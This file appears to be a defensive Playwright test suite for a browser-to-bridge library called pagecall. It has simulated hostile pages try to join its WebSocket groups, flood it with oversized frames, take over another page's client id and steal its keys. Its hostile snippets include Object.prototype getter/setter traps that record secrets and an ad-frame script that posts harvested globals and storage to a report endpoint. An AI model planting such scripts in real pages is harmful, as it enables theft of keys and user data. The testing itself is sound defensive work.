/**
 * The page side under attack, in real Chromium: a hostile website (a fake host name mapped to
 * loopback, Local Network Access checks off, as in browsers without them) tries to join a group by
 * WebSocket and through /injector.js, opens many sockets, floods pre-hello frames and asks for
 * another page's client id; an ad iframe in a launched page and a site script with Object.prototype
 * setters try to learn the key. None of it works, and the real page keeps serving.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import type { Bridge } from '../../bridge/index.js';
import { attach, LNA_DISABLE_FLAG, launch } from '../../launcher/launch.js';
import { launchTestBrowser, startSite, type TestSite } from '../helpers/browser.js';
import { getJson, injectorTags, postJson, startTestBridge, until } from '../helpers/bridge.js';

const HOSTS = '--host-resolver-rules=MAP shop.test 127.0.0.1, MAP evil.test 127.0.0.1, MAP ad.test 127.0.0.1';

/** What the evil page runs: opens sockets to the bridge and reports how each ended. */
const EVIL_SOCKETS = `
  window.__codes = [];
  window.knock = (bridge, count, hello, payload) => {
    for (let i = 0; i < count; i++) {
      const ws = new WebSocket(bridge);
      ws.onopen = () => ws.send(payload ?? JSON.stringify({ type: 'hello', v: 1, group: 'shop', url: location.href, title: 'evil', actions: ['sign'], ...hello }));
      ws.onmessage = (e) => { if (String(e.data).includes('"invoke"')) window.__invoked = true; };
      ws.onclose = (e) => window.__codes.push(e.code);
      ws.onerror = () => {};
    }
  };
`;

/**
 * Accessors on Object.prototype that record whatever passes through them (what a hostile script in
 * the page's realm would install): a getter sees the object a missing field is read from, a setter
 * the value assigned. Recorded as strings; a guard keeps the recording itself from re-entering.
 */
const PROTOTYPE_TRAPS = `
  window.__trapped = [];
  let busy = false;
  const record = (text) => { if (busy) return; busy = true; try { window.__trapped.push(text); } finally { busy = false; } };
  const describe = (o) => { if (busy) return ''; busy = true; try { return Object.getOwnPropertyNames(o).map((k) => { try { return k + '=' + String(o[k]); } catch { return k; } }).join(','); } catch { return ''; } finally { busy = false; } };
  for (const name of ['key', 'token', 'resume', 'clientId', 'group', 'url', 'toJSON']) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get() { const seen = describe(this); if (seen) record('get ' + name + ' of {' + seen + '}'); return undefined; },
      set(value) { record('set ' + name + ' = ' + String(value)); },
    });
  }
`;

/** What LOOK_AROUND returns. */
interface LookedAround {
  status: string;
  state: string;
  resources: string;
  html: string;
  storage: string;
  globals: string;
  trapped: string;
}

/** Everything a realm's scripts can look at where a key could have been left. */
const LOOK_AROUND = `(() => {
  const strings = [];
  for (const name of Object.getOwnPropertyNames(window)) {
    try { const v = window[name]; if (typeof v === 'string') strings.push(v); } catch {}
  }
  const storage = (s) => { try { return JSON.stringify(Object.entries(s)); } catch { return ''; } };
  return {
    status: globalThis.pagecall ? JSON.stringify(globalThis.pagecall.status()) : 'no pagecall',
    state: globalThis.pagecall ? globalThis.pagecall.status().state : 'none',
    resources: performance.getEntriesByType('resource').map((e) => e.name).join('\\n'),
    html: document.documentElement.outerHTML,
    storage: storage(sessionStorage) + storage(localStorage),
    globals: strings.join('\\n'),
    trapped: (window.__trapped ?? []).join('\\n'),
  };
})()`;

describe('the page side under attack', () => {
  let bridge: Bridge;
  let site: TestSite;
  let browser: Browser;
  let shop: Page;
  let realId: string;
  const at = (host: string, path: string): string => `http://${host}:${site.port}${path}`;
  const wsUrl = (): string => `${bridge.url.replace('http', 'ws')}/v1/ws`;
  const call = (body: Record<string, unknown>) => postJson(`${bridge.url}/v1/call`, body);

  before(async () => {
    bridge = await startTestBridge();
    // Pages that need the bridge's keys are served with page.route; these need nothing.
    site = await startSite({
      '/evil': `<!doctype html><title>evil</title><script>${EVIL_SOCKETS}</script>`,
      '/blank': '<!doctype html><title>blank</title><p>blank',
    });
    browser = await launchTestBrowser([HOSTS, LNA_DISABLE_FLAG]);
    shop = await browser.newPage();
    await shop.route(at('shop.test', '/shop'), (route) =>
      route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>shop</title>${injectorTags(bridge, 'shop')}<script>pagecall.register('sign', () => 'real')</script>` }),
    );
    await shop.goto(at('shop.test', '/shop'));
    realId = (await until(() => bridge.clients('shop').find((c) => c.actions.includes('sign')), 'the real page')).id;
  });
  after(async () => {
    await browser?.close();
    await site?.close();
    await bridge?.close();
  });

  async function evilPage(): Promise<Page> {
    const page = await browser.newPage();
    await page.goto(at('evil.test', '/evil'));
    return page;
  }

  test('a hostile origin cannot join a group by WebSocket: without the key, with a guessed one or another group\'s, every hello is refused (4401)', async () => {
    const evil = await evilPage();
    try {
      await evil.evaluate((bridgeWs) => {
        const w = globalThis as any;
        w.knock(bridgeWs, 1, {});
        w.knock(bridgeWs, 1, { key: 'shop~' + 'A'.repeat(43) });
        w.knock(bridgeWs, 1, { key: 'a-guessed-page-key-0123456789' });
      }, wsUrl());
      await evil.evaluate(`(w => w.knock(${JSON.stringify(wsUrl())}, 1, { key: ${JSON.stringify(bridge.groupKey('other'))} }))(window)`);
      await evil.waitForFunction(() => (globalThis as any).__codes.length === 4);
      assert.deepEqual(await evil.evaluate(() => (globalThis as any).__codes), [4401, 4401, 4401, 4401]);
      assert.deepEqual(bridge.clients('shop').map((c) => c.id), [realId]);
      assert.equal(await evil.evaluate(() => (globalThis as any).__invoked ?? false), false);
    } finally {
      await evil.close();
    }
  });

  test('nor through /injector.js: the old script URL connects nowhere and says how to get a snippet; the module without a key is refused', async () => {
    const evil = await browser.newPage();
    const lines: string[] = [];
    evil.on('console', (m) => lines.push(m.text()));
    try {
      await evil.route(at('evil.test', '/evil-script'), (route) =>
        route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>evil</title><script src="${bridge.url}/injector.js?group=shop"></script><script>pagecall.register('sign', () => 'forged')</script>` }),
      );
      await evil.goto(at('evil.test', '/evil-script'));
      await until(() => lines.find((l) => l.startsWith('pagecall: not connecting')), 'the console to say why');
      const said = lines.find((l) => l.startsWith('pagecall: not connecting'))!;
      assert.match(said, /run `pagecall injector --group shop` and paste its output, or open the dashboard at http:\/\/127\.0\.0\.1:\d+\/ \(Injector → Copy snippet\)/);
      assert.equal(await evil.evaluate(() => (globalThis as any).pagecall.status().state), 'idle');

      // The module the console snippet imports, without a key: refused, and the page says why.
      await evil.evaluate(async (urls) => (await import(urls.module)).default.connect({ url: urls.ws, group: 'shop' }), { module: `${bridge.url}/injector.mjs`, ws: wsUrl() });
      const status = await until(async () => {
        const s = await evil.evaluate(() => (globalThis as any).pagecall.status());
        return s.state === 'closed' ? s : undefined;
      }, 'the refusal');
      assert.equal(status.lastError.reason, 'unauthorized');
      assert.match(status.lastError.message, /its page key is missing or wrong .*pagecall injector --group shop/);
      assert.deepEqual(bridge.clients('shop').map((c) => c.id), [realId]);
    } finally {
      await evil.close();
    }
  });

  test('a tab with many sockets gets no calls: 100 sockets are refused and the real page serves every call', async () => {
    const evil = await evilPage();
    try {
      await evil.evaluate((bridgeWs) => (globalThis as any).knock(bridgeWs, 100, {}), wsUrl());
      await evil.waitForFunction(() => (globalThis as any).__codes.length === 100, undefined, { timeout: 60_000 });
      assert.deepEqual([...new Set(await evil.evaluate(() => (globalThis as any).__codes as number[]))], [4401]);
      const results = await Promise.all(Array.from({ length: 100 }, () => call({ group: 'shop', action: 'sign' })));
      assert.deepEqual([...new Set(results.map((r) => `${r.body.clientId} ${r.body.result}`))], [`${realId} real`]);
    } finally {
      await evil.close();
    }
  });

  test('pre-hello oversized and nested frames are refused (1009, 4413) while /health and a real call keep answering', async () => {
    const evil = await evilPage();
    try {
      await evil.evaluate((bridgeWs) => {
        const w = globalThis as any;
        w.knock(bridgeWs, 3, {}, '['.repeat(32 * 1024 * 1024));
        w.knock(bridgeWs, 3, {}, '['.repeat(60 * 1024));
      }, wsUrl());
      while ((await evil.evaluate(() => (globalThis as any).__codes.length)) < 6) {
        assert.equal((await getJson(`${bridge.url}/health`)).status, 200);
        assert.equal((await call({ group: 'shop', action: 'sign' })).body.result, 'real');
      }
      const codes = (await evil.evaluate(() => (globalThis as any).__codes as number[])).sort();
      // The 32 MiB frames are refused on their header (1009); a sender still busy writing sees the cut as 1006.
      assert.equal(codes.filter((c) => c === 4413).length, 3, JSON.stringify(codes));
      assert.ok(codes.filter((c) => c !== 4413).every((c) => c === 1009 || c === 1006), JSON.stringify(codes));
      assert.equal((await call({ group: 'shop', action: 'sign' })).body.result, 'real');
    } finally {
      await evil.close();
    }
  });

  test("id takeover fails: a page asking for another page's client id gets its own, and the other page is not disturbed", async () => {
    const other = await browser.newPage();
    try {
      await other.goto(at('shop.test', '/blank'));
      await other.addScriptTag({ url: `${bridge.url}/injector.js` });
      await other.evaluate((o) => (globalThis as any).pagecall.register('sign', () => 'other').connect(o), { url: wsUrl(), group: 'shop', key: bridge.groupKey('shop'), clientId: realId });
      const status = await until(async () => {
        const s = await other.evaluate(() => (globalThis as any).pagecall.status());
        return s.state === 'open' ? s : undefined;
      }, 'the second page to join');
      assert.notEqual(status.clientId, realId);
      const real = await shop.evaluate(() => (globalThis as any).pagecall.status());
      assert.deepEqual([real.state, real.clientId, real.connects], ['open', realId, 1]);
      assert.equal((await call({ group: 'shop', action: 'sign', clientId: realId })).body.result, 'real');
    } finally {
      await other.close();
      await until(() => bridge.clients('shop').length === 1, 'the second page to leave');
    }
  });

  test('a prototype setter learns nothing: hellos, settings and welcomes never pass through Object.prototype', async () => {
    const page = await browser.newPage();
    try {
      await page.route(at('shop.test', '/proto'), (route) =>
        route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>proto</title>${injectorTags(bridge, 'proto')}<script>pagecall.register('x', () => 1)</script>` }),
      );
      await page.goto(at('shop.test', '/proto'));
      await until(() => bridge.clients('proto').length === 1, 'the page to join');
      // The site's own script sets its traps, then makes the client send hellos again.
      await page.evaluate(PROTOTYPE_TRAPS);
      await page.evaluate(() => {
        const p = (globalThis as any).pagecall;
        p.disconnect();
        p.connect();
      });
      await until(async () => (await page.evaluate(() => (globalThis as any).pagecall.status().connects)) === 2, 'the reconnect');
      // Written as a literal in the page's own code (an argument passed through Playwright would be
      // rebuilt by assignment, which is the page's script, not pagecall, feeding the traps).
      await page.evaluate(`pagecall.connect(${JSON.stringify({ url: wsUrl(), group: 'proto2', key: bridge.groupKey('proto2'), token: 'not-a-token-but-secret-looking' })})`);
      await until(() => bridge.clients('proto2').length === 1, 'the page in its new group');
      // What the traps saw, taken before anything else runs in the page (the test's own look around would feed them).
      const trapped = await page.evaluate(() => ((globalThis as any).__trapped as string[]).join('\n'));
      const looked = (await page.evaluate(LOOK_AROUND)) as LookedAround;
      const storage = JSON.parse(await page.evaluate(() => JSON.stringify(Object.entries((globalThis as any).sessionStorage)))) as Array<[string, string]>;
      const resumes = storage.filter(([name]) => name.startsWith('pagecall:resume:')).map(([, value]) => value);
      assert.equal(resumes.length, 2, 'a resume secret is kept per group');
      const secrets = [bridge.groupKey('proto').split('~')[1]!, bridge.groupKey('proto2').split('~')[1]!, 'not-a-token-but-secret-looking', ...resumes];
      for (const secret of secrets) {
        assert.ok(!trapped.includes(secret), `a trap saw ${secret}: ${trapped.split('\n').filter((l) => l.includes(secret)).join(' | ').slice(0, 1000)}`);
        assert.ok(!looked.status.includes(secret), 'status() shows no key, token or resume secret');
      }
      assert.ok(trapped.length > 0, 'the traps did see the page at work (they are not dead)');
    } finally {
      await page.close();
    }
  });

  test('a page with a thousand long function names joins: its hello would pass 64 KiB, so the functions follow the welcome', async () => {
    const page = await browser.newPage();
    try {
      await page.goto(at('shop.test', '/blank'));
      await page.addScriptTag({ url: `${bridge.url}/injector.js` });
      await page.evaluate((o) => {
        const p = (globalThis as any).pagecall;
        for (let i = 0; i < 1_000; i++) p.register(`fn_${String(i).padStart(4, '0')}_${'x'.repeat(100)}`, () => i);
        p.connect(o);
      }, { url: wsUrl(), group: 'many', key: bridge.groupKey('many') });
      const joined = await until(() => bridge.clients('many').find((c) => c.actions.length === 1_000), 'all thousand functions');
      assert.ok(joined);
      assert.equal((await call({ group: 'many', action: `fn_0999_${'x'.repeat(100)}` })).body.result, 999);
    } finally {
      await page.close();
    }
  });
});

describe('a launched page with an ad iframe', () => {
  // The ad's own script sets traps, then tries to join with and without settings of its own, then
  // reports what it can see (it runs in another origin's frame, out of reach of the test's CDP).
  const AD = `<!doctype html><title>ad</title><script>${PROTOTYPE_TRAPS}</script><script>
    try { pagecall.connect(); } catch (e) { window.__connectError = String(e); }
    try { pagecall.connect({ url: 'ws://127.0.0.1:1/v1/ws', group: 'adtest' }); } catch (e) { window.__connectError = String(e); }
    setTimeout(() => fetch('/report', { method: 'POST', body: JSON.stringify(${LOOK_AROUND}) }), 0);
  </script><p>ad`;

  /** A site on shop.test (top page with the ad) and ad.test (the ad), and what the ad reported. */
  async function adSite(): Promise<{ site: TestSite; top: string; report: Promise<LookedAround> }> {
    let reported: (looked: LookedAround) => void = () => {};
    const report = new Promise<LookedAround>((resolve) => (reported = resolve));
    // The top page names the site's port, known once it listens: the route table is filled in then.
    const routes: Parameters<typeof startSite>[0] = {
      '/ad': AD,
      '/report': (req, res) => {
        let body = '';
        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
        req.on('end', () => {
          res.end('ok');
          reported(JSON.parse(body) as LookedAround);
        });
      },
    };
    const site = await startSite(routes);
    routes['/with-ad'] = `<!doctype html><title>shop</title><p>shop<iframe src="http://ad.test:${site.port}/ad"></iframe>`;
    return { site, top: `http://shop.test:${site.port}/with-ad`, report };
  }

  function assertKeyUnseen(bridge: Bridge, looked: LookedAround, group: string): void {
    const mac = bridge.groupKey(group).split('~')[1]!;
    for (const [where, text] of Object.entries(looked)) assert.ok(!text.includes(mac) && !text.includes(bridge.pageKey), `the key is in the ad frame's ${where}`);
  }

  test('launch(): the ad frame neither joins nor learns the key; the top page joins and serves', async () => {
    const bridge = await startTestBridge();
    const { site, top, report } = await adSite();
    let launched: Awaited<ReturnType<typeof launch>> | undefined;
    try {
      launched = await launch({ urls: [top], group: 'adtest', bridge, args: [HOSTS], scripts: [{ content: "pagecall.register('where', () => location.href)" }] });
      const looked = await report;
      assertKeyUnseen(bridge, looked, 'adtest');
      assert.notEqual(looked.state, 'open', 'the ad frame never connected');
      assert.deepEqual(bridge.clients('adtest').map((c) => c.url), [top]);
      assert.equal((await postJson(`${bridge.url}/v1/call`, { group: 'adtest', action: 'where' })).body.result, top);
    } finally {
      await launched?.close();
      await site.close();
      await bridge.close();
    }
  });

  test('attach(): the realm check runs in the ad frame too, which stays out and never sees the key', async () => {
    const bridge = await startTestBridge();
    const { site, top, report } = await adSite();
    const browser = await launchTestBrowser([HOSTS, LNA_DISABLE_FLAG]);
    try {
      const context = await browser.newContext();
      // Playwright puts init scripts into every frame, cross-site ones included: the gate decides.
      await attach(context, { group: 'adtest', bridge, scripts: [{ content: "pagecall.register('where', () => location.href)" }] });
      const page = await context.newPage();
      await page.goto(top);
      const looked = await report;
      assertKeyUnseen(bridge, looked, 'adtest');
      assert.notEqual(looked.state, 'open', 'the ad frame never connected');
      await until(() => bridge.clients('adtest').find((c) => c.url === top), 'the top page to join');
      assert.deepEqual(bridge.clients('adtest').map((c) => c.url), [top]);
      assert.equal((await postJson(`${bridge.url}/v1/call`, { group: 'adtest', action: 'where' })).body.result, top);
    } finally {
      await browser.close();
      await site.close();
      await bridge.close();
    }
  });
});
